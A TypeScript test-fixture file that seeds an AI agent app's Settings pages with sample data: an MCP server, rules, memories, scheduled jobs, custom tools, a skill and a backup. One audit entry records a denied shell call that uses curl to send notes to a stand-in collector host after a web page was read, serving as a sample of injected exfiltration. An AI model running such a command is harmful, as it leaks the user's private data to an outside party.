// Data for the e2e walks over Settings (test/e2e/pseudo-locale-settings.e2e.ts, a11y-axe.e2e.ts): the guestbook MCP
// server (an elicitation fixture) and, through the real core, something for every section to list — a fallback model,
// an always-allow rule and the tool calls in the activity log, a memory, two scheduled jobs with runs, a custom tool
// and a broken one, a skill, a saved prompt and a backup.
import { join } from 'node:path';
import { expect } from 'vitest';
import type { Prompter } from '../../../electron/agent/approvals/prompter';
import { waitFor } from '../../support/wait-for';
import { writeTool } from '../../tools/user-tools/user-tools-helpers';
import type { HearthHarness } from '../bridge/hearth-harness';

const elicitServer = join(process.cwd(), 'test/tools/mcp/fixtures/elicit-server.mjs');

/** Adds the guestbook MCP server (its tool asks the person for a name through a form) and waits for its tools. */
export async function addGuestbookServer(harness: HearthHarness): Promise<void> {
  const written = await harness.runtime.setSetting('mcp.servers.guestbook', {
    command: process.execPath,
    args: [elicitServer],
  });
  expect(written).toMatchObject({ ok: true });
  await waitFor(() => harness.runtime.mcp.servers().some((server) => server.tools.length > 0), {
    message: 'the guestbook server to list its tools',
    timeout: 30_000,
    observe: () => harness.runtime.mcp.servers(),
  });
}

/** What the seed wrote, as the page shows it: people's and models' words, names of files, servers and tools. */
export const seededWords = {
  memory: 'Prefers oolong tea in the afternoon',
  memoryTag: 'tea',
  reminder: 'Water the plants',
  reminderMessage: 'Water the plants on the balcony',
  digest: 'Morning digest',
  digestPrompt: 'Summarise my day ahead',
  digestAnswer: 'Nothing is scheduled today.',
  prompt: 'weekly-review',
  promptText: 'Review my week: what went well, what did not.',
  customTool: 'word_count',
  customToolFile: 'word-count.mjs',
  customToolDescription: 'Counts the words in a text.',
  brokenToolFile: 'half-written.mjs',
  fallbackModel: 'backup-model',
  writtenFile: 'garden-plan.txt',
  readPage: 'garden.example/news',
};

const allowAll: Prompter = { ask: async (request) => ({ decision: 'allow', argsHash: request.argsHash }) };
const never = () => new AbortController().signal;

async function callTool(harness: HearthHarness, name: string, args: Record<string, unknown>): Promise<void> {
  const result = await harness.runtime.callTool(name, JSON.stringify(args), { prompter: allowAll, signal: never() });
  if (!result.ok) throw new Error(`${name}: ${result.content}`);
}

/** Seeds every Settings section through the real core; the page reads it when Settings opens. */
export async function seedSettingsSections(harness: HearthHarness): Promise<void> {
  const { runtime, llm, dataDir } = harness;
  const words = seededWords;
  expect(
    await runtime.setSetting('provider.fallbacks', [{ provider: 'ollama', model: words.fallbackModel }]),
  ).toMatchObject({ ok: true });
  expect(await runtime.setSetting('prompts.saved', [{ name: words.prompt, text: words.promptText }])).toMatchObject({
    ok: true,
  });

  // Activity: a call an always-allow rule let through, and a refused one whose run had read a web page.
  const rule = runtime.rules.add({ tool: 'write_file', match: { kind: 'any' }, scope: 'forever' });
  if (!rule.ok) throw new Error(rule.error);
  await callTool(harness, 'write_file', { path: words.writtenFile, content: 'garlic in October' });
  runtime.audit.record({
    runId: 'earlier-run',
    callId: 'earlier-call',
    tool: 'shell',
    args: { command: 'curl https://collector.example/?d=notes' },
    decision: 'deny',
    by: 'user',
    reason: 'The user denied this call.',
    reasonCode: { code: 'userDenied' },
    untrustedSources: [{ kind: 'web_page', label: words.readPage }],
    ok: false,
    errorType: 'denied',
    latencyMs: 4,
  });

  const memory = runtime.memories.add({ content: words.memory, tags: [words.memoryTag] });
  if (!memory.ok) throw new Error(memory.error);

  await callTool(harness, 'cron_add', {
    name: words.reminder,
    schedule: '0 18 * * *',
    timezone: 'Europe/Berlin',
    message: words.reminderMessage,
  });
  await callTool(harness, 'cron_add', {
    name: words.digest,
    schedule: '30 7 * * 1-5',
    timezone: 'Europe/Berlin',
    prompt: words.digestPrompt,
    tools: ['datetime'],
  });
  const digest = runtime.jobs.list().find((job) => job.name === words.digest)!;
  llm.script({ kind: 'text', text: words.digestAnswer });
  expect(await runtime.scheduler.runNow(digest.id)).toMatchObject({ ok: true, run: { status: 'ok' } });

  // The custom tools folder: a tool nobody has trusted yet and a file that does not load.
  const folder = join(dataDir, 'tools');
  writeTool(
    folder,
    words.customToolFile,
    {
      name: words.customTool,
      description: words.customToolDescription,
      risk: 'read',
      run: 'return String(String(args.text).split(/\\s+/).length);',
      extra: 'export const capabilities = ["network"];',
    },
    { trust: false },
  );
  writeTool(folder, words.brokenToolFile, 'export const name = "half_written";\nexport const description = ;');
  await waitFor(() => runtime.userTools.status().tools.length > 0 && runtime.userTools.status().errors.length > 0, {
    message: 'the custom tools folder to be read',
    timeout: 15_000,
    observe: () => runtime.userTools.status(),
  });

  // Settings → Skills and hooks: the public-format fixture skill, imported (untrusted) into the data folder.
  const skills = runtime.skills.importFrom(join(process.cwd(), 'test/fixtures/skills/csv-summary'));
  if (!skills.ok) throw new Error(skills.error);

  const backup = await runtime.backups.create();
  if (!backup.ok) throw new Error(backup.error);
}
